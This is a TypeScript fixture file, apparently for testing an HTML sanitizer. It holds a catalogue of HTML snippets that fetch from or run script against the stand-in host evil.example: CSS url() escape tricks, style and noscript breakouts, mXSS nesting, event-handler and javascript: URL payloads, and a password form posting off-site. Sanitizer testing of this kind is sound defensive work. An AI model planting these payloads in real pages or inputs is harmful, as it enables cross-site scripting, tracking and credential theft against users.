/** Ways in which HTML has asked for things from elsewhere, or run scripts. Each names itself in the address it asks for. */

const evil = (what: string) => `https://evil.example/${what}`
const run = (what: string) => `console.log('RAN ${what}');top.ran=1;new Image().src='${evil(`ran-${what}`)}'`

export const loading = [
  `<img src="${evil('img')}">`,
  `<img src="//evil.example/protocol-relative">`,
  `<img src="\\\\evil.example\\backslashes">`,
  `<img src="/api/session">`,
  `<img srcset="${evil('srcset')} 1x, ${evil('srcset-2')} 2x">`,
  `<picture><source srcset="${evil('picture')}"><img src="${evil('picture-img')}"></picture>`,
  `<video poster="${evil('poster')}" src="${evil('video')}" autoplay></video><audio src="${evil('audio')}" autoplay></audio>`,
  `<table background="${evil('background')}"><tr><td background="${evil('cell')}">x</td></tr></table>`,
  `<input type="image" src="${evil('input')}">`,
  `<p style="background:url(${evil('style')})">x</p>`,
  `<p style="background:u\\72l(${evil('escape')})">x</p>`,
  `<p style="background:\\000075rl('${evil('escape-2')}')">x</p>`,
  `<p style="background:url/**/(${evil('comment')})">x</p>`,
  `<p style="--x:url(${evil('variable')});background:var(--x)">x</p>`,
  `<p style="background:image-set('${evil('image-set')}' 1x)">x</p>`,
  `<p style="background:-webkit-image-set(url(${evil('webkit-image-set')}) 1x)">x</p>`,
  `<p style="list-style:url(${evil('list-style')});display:list-item">x</p>`,
  `<p style="content:url(${evil('content')});cursor:url(${evil('cursor')}),auto;border-image:url(${evil('border')}) 1">x</p>`,
  `<p style="mask-image:url(${evil('mask')});filter:url(${evil('filter')}#f);clip-path:url(${evil('clip')}#c)">x</p>`,
  `<style>@import url(${evil('import')});@import "${evil('import-2')}";</style>`,
  `<style>@\\69mport "${evil('import-escape')}";</style>`,
  `<style>@font-face{font-family:f;src:url(${evil('font')})}body{font-family:f}</style>`,
  `<style>:root{--u:url(${evil('sheet-variable')})}body{background-image:var(--u)}p::before{content:url(${evil('before')})}</style>`,
  `<style>@media screen{body{background:url(${evil('media')})}}@supports (color:red){p{background:url(${evil('supports')})}}</style>`,
  `<style>@layer a{p{background:url(${evil('layer')})}}p{&{background:url(${evil('nested')})}}</style>`,
  `<style>p[title="</style><img src=${evil('breakout')}>"]{color:red}</style>`,
  `<style>p::after{content:"\\3c/style\\3e\\3cimg src=${evil('breakout-2')}\\3e"}</style>`,
  `<svg><image href="${evil('svg-image')}" xlink:href="${evil('svg-xlink')}"/><use href="${evil('svg-use')}#x"/></svg>`,
  `<svg><style>p{background:url(${evil('svg-style')})}</style><feImage href="${evil('fe-image')}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=${evil('mxss')}></style></mglyph></table></mtext></math>`,
  `<link rel="stylesheet" href="${evil('stylesheet')}"><link rel="preconnect" href="${evil('')}"><link rel="prefetch" href="${evil('prefetch')}">`,
  `<link rel="preload" as="image" href="${evil('preload')}"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="${evil('icon')}">`,
  `<meta http-equiv="refresh" content="0;url=${evil('refresh')}">`,
  `<base href="${evil('base/')}"><img src="based">`,
  `<object data="${evil('object')}"></object><embed src="${evil('embed')}"><iframe src="${evil('iframe')}"></iframe>`,
  `<iframe srcdoc="<img src=${evil('srcdoc')}>"></iframe><frameset><frame src="${evil('frame')}"></frameset>`,
  `<form action="${evil('form')}"><input name="password"><button formaction="${evil('formaction')}">Sign in</button></form>`,
  `<noscript><img src="${evil('noscript')}"></noscript><template><img src="${evil('template')}"></template>`,
  `<body background="${evil('body')}" style="background:url(${evil('body-style')})">`,
  `<a href="${evil('ping')}" ping="${evil('pinged')}">a link</a>`,
]

export const running = [
  `<script>${run('script')}</script>`,
  `<script src="${evil('script')}"></script>`,
  `<img src="x" onerror="${run('onerror')}">`,
  `<body onload="${run('onload')}">`,
  `<svg onload="${run('svg')}"><script>${run('svg-script')}</script></svg>`,
  `<details open ontoggle="${run('toggle')}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run('focus')}">`,
  `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>`,
  `<iframe src="javascript:${run('iframe')}"></iframe>`,
  `<object data="data:text/html,<script>${run('object')}</script>"></object>`,
  `<math><mi xlink:href="data:x,<script>${run('math')}</script>"></mi></math>`,
  `<p style="animation:x 1s" onanimationstart="${run('animation')}">x</p><style>@keyframes x{}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></p></noscript>`,
  `<a id="javascript-link" href="javascript:${run('link')}">a script</a>`,
  `<a id="data-link" href="data:text/html,<script>${run('data')}</script>">a page</a>`,
]

export const hostileHtml = `<html><head><title>t</title></head><body>\n<p>Before.</p>\n${[...loading, ...running].join('\n')}\n<p>After.</p></body></html>`

/** The same, asking `origin` instead. */
export const aimedAt = (origin: string, text: string): string => text.replaceAll('evil.example', new URL(origin).host)
